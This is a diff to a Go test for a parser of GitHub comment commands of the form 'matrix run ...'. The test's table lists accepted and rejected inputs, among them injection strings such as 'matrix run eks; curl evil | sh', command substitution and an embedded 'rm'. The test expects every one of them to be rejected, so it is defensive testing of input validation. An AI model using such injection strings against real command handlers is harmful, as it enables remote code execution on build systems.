@@ -228,6 +228,7 @@ func TestComment_RunOfGitHub(t *testing.T) {
 	}
 	for command, want := range map[string]bool{
 		"matrix run eks --deployer argocd-oci,flux-oci --charts upstream --validate=all --keep": true, "matrix run eks": true,
+		"matrix run eks --from main --rollback --drift --remove --keep": true, "matrix run eks --from 'HEAD~1' --keep": true, "matrix run eks '--bundler' exec": false, "matrix run web --app clusters/a --environment prod --kubernetes 1.34": true, "matrix run eks --from main --from-aicr ./x": false,
 		"matrix run eks; curl evil | sh": false, "matrix run $(x)": false, "matrix run eks --bundler exec --aicr-path ./x": false, "matrix run eks --program a=./x": false,
 		"curl x": false, "": false, "matrix replay x": false, "matrix run eks `x`": false, "matrix run eks\nrm x": false, "./matrix run eks": false,
 	} {
